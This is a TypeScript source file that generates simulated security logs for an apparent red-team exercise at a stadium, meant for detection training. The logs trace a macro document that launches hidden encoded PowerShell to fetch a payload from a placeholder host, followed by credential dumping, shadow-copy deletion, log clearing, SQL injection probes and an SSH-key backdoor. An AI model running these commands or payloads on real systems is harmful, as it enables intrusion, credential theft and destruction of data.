import type { JsonObject, SeededRandom } from '@vigie/kit'
import { dnsQuery, modbus, auditCommand } from './noise-network.ts'
import { signIn, webRequest } from './noise-venue.ts'
import { after, before, declared, sysmon, windows } from './shape.ts'
import type { Line } from './shape.ts'
import { controllerOf, GATES } from './stadium-systems.ts'
import { controller, passage } from './turnstiles.ts'

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const DESK = 'PC-BILLET-07'
const SERVER = 'TURNSTILE-SRV'
const SCANNER = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)'

/**
 * What is not everyday. The red team of the exercise goes from a document at a ticket desk to the
 * turnstiles' server; others try the public site, the accreditation and the building meanwhile.
 */
export function attackLines(random: SeededRandom): readonly Line[] {
  return [...firstMinutes(), ...desk(), ...server(), ...publicSite(random), ...elsewhere(random)]
}

/** What a newcomer sees at once. */
function firstMinutes(): readonly Line[] {
  return [
    ...['admin', '.env', 'backup.zip', 'phpinfo.php', 'console', 'old'].map((name, i) =>
      at(
        before(2, 4, 50 - i * 3),
        'site-public',
        webRequest({
          client: '192.0.2.66',
          method: 'GET',
          stem: `/billets/${name}`,
          query: '-',
          status: 404,
          agent: SCANNER,
        }),
      ),
    ),
    at(before(2, 4, 10), 'reseau', dnsQuery('10.60.3.17', 'billets-grandstade.example')),
    ...[1, 2, 3, 4, 5].map((n) =>
      at(
        before(2, 3, 40 - n * 4),
        'identites',
        signIn({
          user: 'accred.nord',
          result: n === 5 ? 'locked' : 'failure',
          client: '10.20.8.44',
          role: 'user',
        }),
      ),
    ),
    at(before(2, 2, 30), 'reseau', dnsQuery('10.60.3.17', 'billets-grandstade.example')),
    at(before(2, 1, 10), 'wifi', rogue('GrandStade-Public', 'AP-inconnu sur parking nord')),
  ]
}

/** Document → hidden PowerShell → passwords. */
function desk(): readonly Line[] {
  const user = 'STADE\\guichet07'
  const encoded =
    'SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcABzADoALwAvAG0AYQBqAC4AZQB4AGEAbQBwAGwAZQA='
  return [
    at(
      before(1, 50, 30),
      'windows',
      sysmon(DESK, 1, {
        ProcessId: 7012,
        Image: 'C:\\Program Files\\Office\\WINWORD.EXE',
        User: user,
        IntegrityLevel: 'Medium',
        CommandLine:
          '"WINWORD.EXE" /n "C:\\Users\\guichet07\\Downloads\\avoir-billets-groupes.docm"',
        ParentImage: 'C:\\Program Files\\Courrier\\Courrier.exe',
        ParentCommandLine: '"Courrier.exe"',
      }),
    ),
    at(
      before(1, 50, 12),
      'windows',
      sysmon(DESK, 1, {
        ProcessId: 7044,
        Image: POWERSHELL,
        User: user,
        IntegrityLevel: 'Medium',
        CommandLine: `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${encoded}`,
        ParentImage: 'C:\\Program Files\\Office\\WINWORD.EXE',
        ParentCommandLine: '"WINWORD.EXE" /n "avoir-billets-groupes.docm"',
      }),
    ),
    at(
      before(1, 50, 10),
      'windows',
      sysmon(DESK, 22, {
        ProcessId: 7044,
        Image: POWERSHELL,
        QueryName: 'maj.example',
        QueryStatus: '0',
        QueryResults: '192.0.2.80;',
      }),
    ),
    at(
      before(1, 49, 58),
      'windows',
      sysmon(DESK, 3, {
        ProcessId: 7044,
        Image: POWERSHELL,
        User: user,
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '10.20.7.17',
        DestinationIp: '192.0.2.80',
        DestinationPort: 443,
      }),
    ),
    at(
      before(1, 49, 30),
      'windows',
      sysmon(DESK, 11, {
        ProcessId: 7044,
        Image: POWERSHELL,
        User: user,
        TargetFilename: 'C:\\Users\\Public\\majpilote.exe',
      }),
    ),
    at(
      before(1, 30, 20),
      'windows',
      sysmon(DESK, 10, {
        SourceProcessId: 7210,
        SourceImage: 'C:\\Users\\Public\\majpilote.exe',
        SourceUser: user,
        TargetImage: 'C:\\Windows\\System32\\lsass.exe',
        GrantedAccess: '0x1010',
        CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4e4|UNKNOWN(0000021A)',
      }),
    ),
  ]
}

/** Sign-in from the desk → service → controllers stopped → copies deleted → traces cleared. */
function server(): readonly Line[] {
  const parent = {
    ParentImage: 'C:\\Windows\\qwtzplkv.exe',
    ParentCommandLine: 'C:\\Windows\\qwtzplkv.exe',
  }
  const system = { User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System' }
  return [
    at(
      before(1, 5, 50),
      'windows',
      windows(SERVER, 'Security', 4624, {
        TargetUserName: 'svc-tourniquet',
        TargetDomainName: 'STADE',
        LogonType: 3,
        IpAddress: '10.20.7.17',
        WorkstationName: DESK,
      }),
    ),
    at(
      before(1, 5, 40),
      'windows',
      windows(SERVER, 'System', 7045, {
        ServiceName: 'qwtzplkv',
        ImagePath: '%SystemRoot%\\qwtzplkv.exe',
        ServiceType: 'user mode service',
        StartType: 'demand start',
        AccountName: 'LocalSystem',
      }),
    ),
    at(
      before(1, 5, 36),
      'windows',
      sysmon(SERVER, 1, {
        ProcessId: 4920,
        Image: 'C:\\Windows\\System32\\cmd.exe',
        CommandLine: 'cmd.exe /c whoami /all',
        ...system,
        ...parent,
      }),
    ),
    at(
      before(0, 46, 40),
      'tourniquets',
      declared({ product: 'turnstile', service: 'supervisor' }, SERVER, {
        action: 'list-replaced',
        list: 'billets-valides',
        user: 'svc-tourniquet',
        entries: 12,
        previous: 68_000,
      }),
    ),
    ...GATES.map((gate, i) =>
      at(
        before(0, 45, 4) + i * 700,
        'tourniquets',
        declared({ product: 'turnstile', service: 'supervisor' }, SERVER, {
          action: 'controller-stop',
          controller: controllerOf(gate),
          user: 'svc-tourniquet',
          order: 'none',
        }),
      ),
    ),
    ...GATES.slice(0, 6).map((gate, i) =>
      at(
        before(0, 44, 50) + i * 900,
        'tourniquets',
        controller(gate, { action: 'stopped', lanes: 0 }),
      ),
    ),
    at(
      before(0, 44, 20),
      'windows',
      sysmon(SERVER, 1, {
        ProcessId: 5012,
        Image: 'C:\\Windows\\System32\\vssadmin.exe',
        CommandLine: 'vssadmin.exe delete shadows /all /quiet',
        ...system,
        ...parent,
      }),
    ),
    at(
      before(0, 44, 12),
      'windows',
      sysmon(SERVER, 1, {
        ProcessId: 5018,
        Image: 'C:\\Windows\\System32\\bcdedit.exe',
        CommandLine: 'bcdedit.exe /set {default} recoveryenabled no',
        ...system,
        ...parent,
      }),
    ),
    at(
      before(0, 43, 30),
      'windows',
      windows(SERVER, 'Security', 1102, {
        SubjectUserName: 'svc-tourniquet',
        SubjectDomainName: 'STADE',
      }),
    ),
  ]
}

/** Search form, flood, and the home page. */
function publicSite(random: SeededRandom): readonly Line[] {
  const flood = Array.from({ length: 140 }, (_, i) =>
    at(
      before(0, 33, 40) + i * 6_000 + random.integer(0, 5_000),
      'site-public',
      webRequest({
        client: `192.0.2.${random.integer(100, 250)}`,
        method: 'GET',
        stem: '/recherche',
        query: `q=${random.integer(1e6, 9e6)}`,
        status: random.fraction() < 0.7 ? 503 : 429,
        agent: 'Mozilla/5.0 (compatible)',
      }),
    ),
  )
  const probes = [
    "q=1' UNION SELECT login,hash FROM comptes--",
    "q=' OR 1=1--",
    'q=finale;WAITFOR DELAY 0:0:5',
  ].map((query, i) =>
    at(
      before(1, 21, 0) + i * 9_000,
      'site-public',
      webRequest({
        client: '192.0.2.66',
        method: 'GET',
        stem: '/recherche',
        query,
        status: 400,
        agent: 'Mozilla/5.0 (compatible)',
      }),
    ),
  )
  return [
    ...probes,
    ...flood,
    at(
      after(0, 18, 40),
      'site-public',
      webRequest({
        client: '192.0.2.91',
        method: 'PUT',
        stem: '/edition/pages/accueil',
        query: '-',
        status: 403,
        agent: 'curl/8.11',
      }),
    ),
    at(
      after(0, 18, 55),
      'site-public',
      webRequest({
        client: '192.0.2.91',
        method: 'POST',
        stem: '/edition/pages/accueil',
        query: '-',
        status: 403,
        agent: 'curl/8.11',
      }),
    ),
  ]
}

/** Badges, administrators, building and broadcast. */
function elsewhere(random: SeededRandom): readonly Line[] {
  return [
    at(
      before(1, 22, 40),
      'identites',
      declared({ product: 'accreditation', service: 'badge' }, 'ACCRED-SRV', {
        badge: 'B11732',
        zone: 'regie',
        result: 'refused',
        reason: 'withdrawn',
      }),
    ),
    at(
      before(1, 12, 10),
      'identites',
      signIn({ user: 'admin.sso', result: 'success', client: '192.0.2.91', role: 'administrator' }),
    ),
    at(
      before(1, 1, 30),
      'batiment',
      declared({ product: 'building', service: 'panel' }, 'GTB-INCENDIE', {
        panel: 'incendie',
        mode: 'test',
        state: 'normal',
        zone: '214',
      }),
    ),
    at(before(0, 52, 20), 'reseau', modbus('10.60.9.31', 'WRITE_MULTIPLE_REGISTERS')),
    at(before(0, 51, 50), 'reseau', modbus('10.60.9.31', 'WRITE_SINGLE_COIL')),
    ...['A2', 'C4'].flatMap((gate) =>
      Array.from({ length: 14 }, (_, i) =>
        at(
          before(0, 29, 0) + i * 75_000 + random.integer(0, 40_000),
          'tourniquets',
          passage(random, gate, 'duplicate'),
        ),
      ),
    ),
    at(
      after(0, 37, 0),
      'regie',
      auditCommand('ENC-2', ['systemctl', 'stop', 'encoder-international']),
    ),
    at(after(0, 58, 0), 'wifi', rogue('GrandStade-Presse', 'AP-inconnu tribune de presse')),
    at(
      after(1, 12, 0),
      'regie',
      auditCommand('ENC-1', [
        'sh',
        '-c',
        'echo ssh-ed25519 AAAA >> /home/encoder/.ssh/authorized_keys',
      ]),
    ),
    at(after(1, 44, 0), 'reseau', dnsQuery('10.60.3.17', 'tickets-grandstade-final.example')),
  ]
}

function rogue(ssid: string, place: string): JsonObject {
  return declared({ product: 'wifi', service: 'controller' }, 'WLC-1', {
    event: 'rogue-ap',
    ssid,
    place,
    signal: -51,
  })
}

function at(atMs: number, source: string, event: JsonObject): Line {
  return { at: atMs, source, event }
}
